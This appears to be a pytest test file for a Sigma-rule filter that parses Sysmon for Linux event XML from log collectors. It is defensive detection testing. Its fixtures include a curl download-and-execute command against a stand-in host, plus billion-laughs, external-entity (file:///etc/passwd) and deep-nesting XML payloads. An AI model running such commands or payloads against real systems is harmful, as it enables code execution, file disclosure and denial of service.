@@ -1,0 +1,288 @@
+"""Sysmon for Linux events as collectors deliver them: one syslog line of event XML, as text in a record."""
+
+import io
+import json
+import os
+import tempfile
+import time
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from clitools import alerts, records, run_cli
+from sigmahq import SIGMAHQ
+from pipeshell_filter.cli import build_prefilter
+from pipeshell_filter.engine import Engine
+from pipeshell_filter.events.fields import FieldResolver, builtin_profiles
+from pipeshell_filter.events.xml_event import XmlEventProblem, carried_event, hides_text, parse_event_xml
+from pipeshell_filter.io import parallel
+from pipeshell_filter.io import prefilter as pf
+from pipeshell_filter.io.stream import Diagnostics, Filter, Output
+from pipeshell_filter.sigma.compile import compile_plan
+from pipeshell_filter.sigma.rule import parse_rule
+
+CURL_RULE = os.path.join(SIGMAHQ, "rules", "linux", "process_creation", "proc_creation_lnx_curl_wget_exec_tmp.yml")
+GUID = "{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"
+
+
+def sysmon_xml(command_xml: str, host: str = "web1", record: int = 42, image_xml: str = "/usr/bin/sh",
+               when: str = "2026-12-04T10:00:00.123456000Z") -> str:
+    """A process creation as Sysmon for Linux's outputxml.cpp writes it (pugixml, raw, no declaration);
+    the values given already XML-escaped."""
+    return (f'<Event><System><Provider Name="Linux-Sysmon" Guid="{GUID}"/><EventID>1</EventID><Version>5</Version>'
+            '<Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>'
+            f'<TimeCreated SystemTime="{when}"/><EventRecordID>{record}</EventRecordID><Correlation/>'
+            '<Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel>'
+            f'<Computer>{host}</Computer><Security UserId="0"/></System><EventData>'
+            '<Data Name="RuleName">-</Data><Data Name="UtcTime">2026-12-04 10:00:00.123</Data>'
+            '<Data Name="ProcessGuid">{de9527a5-6a3f-616f-a52f-d98154560000}</Data><Data Name="ProcessId">4321</Data>'
+            f'<Data Name="Image">{image_xml}</Data><Data Name="FileVersion">-</Data>'
+            f'<Data Name="CommandLine">{command_xml}</Data><Data Name="CurrentDirectory">/root</Data>'
+            '<Data Name="User">root</Data><Data Name="LogonId">0</Data><Data Name="ParentProcessId">800</Data>'
+            '<Data Name="ParentImage">/usr/bin/bash</Data><Data Name="ParentCommandLine">bash</Data>'
+            '<Data Name="ParentUser">root</Data></EventData></Event>')
+
+
+def syslog_line(xml: str, host: str = "web1") -> str:
+    return f"Dec  4 10:00:00 {host} sysmon: {xml}"
+
+
+# How collectors hand the line over: Fluent Bit's tail (no parser), Vector's file source, Fluent Bit's
+# tail or syslog input with its syslog parser (the header parsed off), a journald reader.
+WRAPPINGS = {
+    "fluent-bit tail": lambda xml: {"log": syslog_line(xml)},
+    "vector file": lambda xml: {"message": syslog_line(xml), "host": "collector01", "file": "/var/log/syslog",
+                                "source_type": "file", "timestamp": "2026-12-04T11:59:59.000000Z"},
+    "syslog parser": lambda xml: {"pri": "30", "time": "Dec  4 10:00:00", "host": "web1", "ident": "sysmon",
+                                  "pid": "812", "message": xml},
+    "journald": lambda xml: {"_HOSTNAME": "web1", "SYSLOG_IDENTIFIER": "sysmon", "MESSAGE": xml},
+}
+
+DOWNLOAD = 'sh -c &quot;/usr/bin/curl -s http://x/a.sh -o /tmp/a.sh &amp;&amp; sh /tmp/a.sh&quot;'
+
+
+def ndjson(*events) -> bytes:
+    return b"".join(json.dumps(event).encode() + b"\n" for event in events)
+
+
+def test_the_xml_is_read_in_the_evtx_shape():
+    event = carried_event({"log": syslog_line(sysmon_xml(DOWNLOAD))})
+    system = event["Event"]["System"]
+    assert system["Provider"] == {"#attributes": {"Name": "Linux-Sysmon", "Guid": GUID}}
+    assert system["EventID"] == "1" and system["Channel"] == "Linux-Sysmon/Operational"
+    assert system["Correlation"] is None
+    assert system["TimeCreated"]["#attributes"]["SystemTime"] == "2026-12-04T10:00:00.123456000Z"
+    assert event["Event"]["EventData"]["CommandLine"] == \
+        'sh -c "/usr/bin/curl -s http://x/a.sh -o /tmp/a.sh && sh /tmp/a.sh"'
+    assert carried_event({"message": "GET /<EventData> HTTP/1.1"}) is None  # not an <Event element
+    assert carried_event({"log": "x", "n": 3}) is None
+
+
+@pytest.mark.skipif(not os.path.isfile(CURL_RULE), reason="the shared SigmaHQ checkout is absent")
+@pytest.mark.parametrize("wrapping", sorted(WRAPPINGS))
+def test_each_collector_wrapping_meets_a_sigmahq_linux_rule(wrapping):
+    """Before, every such record was a flat event with one text: no rule of product linux saw it."""
+    events = [WRAPPINGS[wrapping](sysmon_xml(DOWNLOAD)),
+              WRAPPINGS[wrapping](sysmon_xml("sh -c ls /tmp/", record=43))]
+    result = run_cli(["--rule", CURL_RULE, "--emit", "matches"], ndjson(*events))
+    assert result.returncode == 0, result.stderr
+    found = alerts(result.stdout)
+    assert len(found) == 1, result.stdout
+    # the time and the host are the event's, from its XML (not Vector's host or timestamp)
+    assert found[0]["@timestamp"] == "2026-12-04T10:00:00.123456Z"
+    assert found[0]["related"]["hosts"] == ["web1"]
+    assert found[0]["sigma"]["events"][0]["record_id"] == 42
+    matched = [r for r in records(result.stdout) if "sigma" in r and r.get("event", {}).get("kind") != "alert"]
+    assert [{k: v for k, v in r.items() if k != "sigma"} for r in matched] == events[:1]  # the record as it came
+
+
+HAND_RULE = """
+title: curl from a hidden path
+id: 7d3c9f5e-1b2a-4c6d-8e9f-0a1b2c3d4e5f
+logsource: {product: linux, category: process_creation}
+detection:
+  image: {Image|endswith: '/curl'}
+  args: {CommandLine|contains: 'a&b<c>'}
+  condition: image and args
+"""
+
+
+def test_a_hand_written_rule_matches_values_escaped_as_entities(tmp_path):
+    """``&#99;url`` is curl, ``&amp;`` an ampersand: neither is in the line's bytes as the rule spells it,
+    so the prefilter must send the line on to be read."""
+    rule = tmp_path / "r.yml"
+    rule.write_text(HAND_RULE)
+    event = {"log": syslog_line(sysmon_xml("x a&amp;b&lt;c&#x3E; y", image_xml="&#x2F;usr/bin/&#99;url"))}
+    other = {"log": syslog_line(sysmon_xml("x a&amp;b y", image_xml="/usr/bin/curl"))}
+    for extra in ([], ["--no-prefilter"], ["--prefilter-engine", "python"]):
+        result = run_cli(["--rule", str(rule), "--emit", "alerts", *extra], ndjson(event, other))
+        assert result.returncode == 0, result.stderr
+        assert [a["sigma"]["events"][0]["line"] for a in alerts(result.stdout)] == [1], (extra, result.stdout)
+
+
+BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
+    f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10)) + ']>')
+HOSTILE = {
+    "billion laughs": BILLION_LAUGHS + "<Event><System/><EventData><Data Name='CommandLine'>&lol9; curl</Data>"
+                                       "</EventData></Event>",
+    "entities declared inside": "<Event>" + BILLION_LAUGHS + "<System/>&lol9; curl</Event>",
+    "deep": "<Event><System/>" + "<a>" * 100_000 + "curl" + "</a>" * 100_000 + "</Event>",
+    "truncated": sysmon_xml("/usr/bin/curl -s http://x/a.sh -o /tmp/a.sh")[:700],
+    "doctype": '<!DOCTYPE Event SYSTEM "file:///etc/passwd"><Event><System/>curl</Event>',
+    "external entity": "<Event><System/><Data>&xxe; curl</Data></Event>",
+    "not an event": "<Event x='1'><Evil><System/>curl</Evil></Event>",
+}
+
+
+@pytest.mark.parametrize("prefilter", [[], ["--no-prefilter"]])
+def test_hostile_xml_is_a_diagnostic_and_the_stream_goes_on(tmp_path, prefilter):
+    rule = tmp_path / "r.yml"
+    rule.write_text(HAND_RULE.replace("a&b<c>", "curl"))
+    good = {"log": syslog_line(sysmon_xml("curl x", image_xml="/usr/bin/curl"))}
+    lines = []
+    for payload in HOSTILE.values():
+        lines += [{"log": syslog_line(payload)}, good]
+    data = ndjson(*lines)
+    started = time.monotonic()
+    result = run_cli(["--rule", str(rule), "--emit", "all", *prefilter], data)
+    assert time.monotonic() - started < 30
+    assert result.returncode == 0, result.stderr
+    out = records(result.stdout)
+    assert len(out) == len(lines) + len(HOSTILE)  # every line passed on, an alert per good event
+    assert [r for r in out if r.get("event", {}).get("kind") != "alert" and "sigma" not in r] == lines[0::2]
+    assert b"Traceback" not in result.stderr
+    said = [line for line in result.stderr.decode().splitlines() if "not read" in line and "line " in line]
+    if prefilter:  # with the prefilter, a line it rules out is passed on unread, as any line
+        assert len(said) == len(HOSTILE), result.stderr
+    assert f"{len(said)} line(s) whose event XML was not read (xml_unread)" in result.stderr.decode()
+
+
+def test_hostile_xml_is_refused_quickly():
+    for name, payload in HOSTILE.items():
+        started = time.monotonic()
+        with pytest.raises(XmlEventProblem):
+            carried_event({"log": syslog_line(payload)})
+        assert time.monotonic() - started < 1, name
+    with pytest.raises(XmlEventProblem):
+        parse_event_xml("<Event><System/>" + "<a/>" * 300_000 + "</Event>")
+
+
+# ---------------------------------------------------------------- the prefilter stays sound
+
+RULES = [
+    HAND_RULE,
+    HAND_RULE.replace("7d3c9f5e", "8d3c9f5e").replace("a&b<c>", "curl").replace("/curl", "h"),
+    HAND_RULE.replace("7d3c9f5e", "9d3c9f5e").replace("a&b<c>", "wget -q").replace("Image|endswith: '/curl'",
+                                                                                  "User: root"),
+]
+WORDS = ["curl", "a&b<c>", "wget -q", "/usr/bin/curl", "x", " ", "&", "<", ">", '"', "'", "\t", "é"]
+
+
+def _spelled(text: str, choices: list) -> str:
+    """``text`` as XML character data, each character written as itself (when XML allows) or as a
+    reference, as ``choices`` say."""
+    named = {"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;"}
+    out = []
+    for ch, how in zip(text, choices + [0] * len(text)):
+        if how == 1:
+            out.append(f"&#{ord(ch)};")
+        elif how == 2:
+            out.append(f"&#x{ord(ch):X};")
+        elif how == 3 and ch in named:
+            out.append(named[ch])
+        else:
+            out.append(named.get(ch, ch) if ch in "&<" else ch)
+    return "".join(out)
+
+
+COMMANDS = st.lists(st.sampled_from(WORDS), max_size=6).map("".join)
+EVENT = st.tuples(COMMANDS, st.lists(st.integers(0, 3), max_size=40), st.sampled_from(sorted(WRAPPINGS)),
+                  st.booleans())
+
+
+def run_filter(data: bytes, engine, rules) -> bytes:
+    plans = [compile_plan(parse_rule(text, f"r{i}.yml")) for i, text in enumerate(rules)]
+    scanner, index = (None, None) if engine is None else build_prefilter(plans, engine)
+    with tempfile.TemporaryFile() as source, tempfile.TemporaryFile() as sink:
+        source.write(data)
+        source.seek(0)
+        stream_filter = Filter(Engine(plans, FieldResolver(builtin_profiles()), 0), Output(sink.fileno()),
+                               Diagnostics(io.StringIO()), "all", prefilter=scanner, index=index, clock=lambda: 0)
+        stream_filter.run(source.fileno(), live=False, block_size=1 << 16)
+        stream_filter.finish()
+        sink.seek(0)
+        return sink.read()
+
+
+def _line(command: str, choices: list, wrapping: str, go_escaped: bool) -> bytes:
+    line = json.dumps(WRAPPINGS[wrapping](sysmon_xml(_spelled(command, choices), image_xml=_spelled("/usr/bin/curl",
+                                                                                                 choices[::-1]))))
+    return (line.replace("<", "\\u003c").replace("&", "\\u0026") if go_escaped else line).encode()  # Go's encoder
+
+
+@given(st.lists(EVENT, min_size=1, max_size=8), st.sampled_from([1, 3]))
+@example([("curl", [1], "fluent-bit tail", False)], 1)
+@example([("a&b<c>", [0], "vector file", True)], 3)
+def test_the_prefilter_never_changes_the_output_of_xml_lines(events, rule_count):
+    """Without ``hides_text`` a line holding ``&#99;url`` was ruled out by its bytes (no "curl" in them)
+    and its event never matched; with ``--no-prefilter`` it did."""
+    rules = RULES[:rule_count]
+    data = b"".join(_line(*event) + b"\n" for event in events)
+    expected = run_filter(data, None, rules)
+    for engine in pf.available_engines():
+        assert run_filter(data, engine, rules) == expected, engine
+
+
+def test_only_lines_carrying_xml_and_a_reference_or_blank_are_held_back():
+    plain = json.dumps({"log": syslog_line(sysmon_xml("curl x"))}).encode()
+    assert not hides_text(plain)
+    assert hides_text(plain.replace(b"curl", b"&#99;url"))
+    assert hides_text(plain.replace(b"curl", b"\\u0026#99;url"))
+    assert hides_text(plain.replace(b'Name=\\"User\\"', b'Name=\\"U\\tser\\"'))
+    assert not hides_text(b'{"message": "a & b \\t c"}')  # no event XML: the JSON argument alone
+    for engine in pf.available_engines():
+        scanner = pf.Prefilter([b"wget"], engine)
+        lines = [plain, plain.replace(b"curl", b"&#99;url"), b'{"message": "a & b"}']
+        assert scanner.judge(lines) == [pf.SKIP, pf.CANDIDATE, pf.SKIP], engine
+
+
+def _filter_file(data: bytes, workers: int) -> tuple:
+    plans = [compile_plan(parse_rule(HAND_RULE.replace("a&b<c>", "curl"), "r.yml"))]
+    scanner, index = build_prefilter(plans, "auto")
+    with tempfile.NamedTemporaryFile() as source, tempfile.TemporaryFile() as sink:
+        source.write(data)
+        source.flush()
+        source.seek(0)
+        diagnostics = Diagnostics(io.StringIO())
+        stream_filter = Filter(Engine(plans, FieldResolver(builtin_profiles()), 0), Output(sink.fileno()),
+                               diagnostics, "all", prefilter=scanner, index=index, clock=lambda: 0, workers=workers)
+        stream_filter.parallel_min, stream_filter.parallel_chunk = 0, 4096  # many chunks, however small
+        stream_filter.run(source.fileno(), live=False, block_size=1 << 16)
+        stream_filter.finish()
+        sink.seek(0)
+        return sink.read(), dict(diagnostics.counts)
+
+
+@pytest.mark.skipif(not parallel.available(), reason="no os.fork / os.pread here")
+def test_worker_processes_read_the_xml_as_the_filter_does():
+    """Detecting workers (``--workers``, a regular file) match the XML's event too, and leave a refused
+    one to the parent, which says so: the output and the diagnostics are those of one process."""
+    good = {"log": syslog_line(sysmon_xml("curl &amp; x", image_xml="/usr/bin/curl"))}
+    bad = {"log": syslog_line(HOSTILE["truncated"] + " curl")}
+    data = ndjson(*([good, bad, {"message": "quiet"}] * 200))
+    alone, together = _filter_file(data, 0), _filter_file(data, 2)
+    assert together == alone
+    assert len(alerts(alone[0])) == 200 and alone[1]["xml_unread"] == 200
+
+
+def test_a_text_that_names_an_event_element_but_holds_no_event_xml_is_read_as_it_is_in_silence(tmp_path):
+    """A web log's URL or a chat message may hold ``<Event>``: with no ``<System`` after it, it is no
+    event's XML, so the record is read as it is and nothing is said (no ``xml_unread`` for every such line)."""
+    rule = tmp_path / "r.yml"
+    rule.write_text(HAND_RULE.replace("a&b<c>", "curl"))
+    plain = [{"message": "GET /search?q=<Event>curl</Event> HTTP/1.1"}, {"log": "<Event id='3'> curl"}]
+    result = run_cli(["--rule", str(rule), "--emit", "all"], ndjson(*plain))
+    assert result.returncode == 0, result.stderr
+    assert records(result.stdout) == plain
+    assert b"xml" not in result.stderr.lower() and b"not read" not in result.stderr
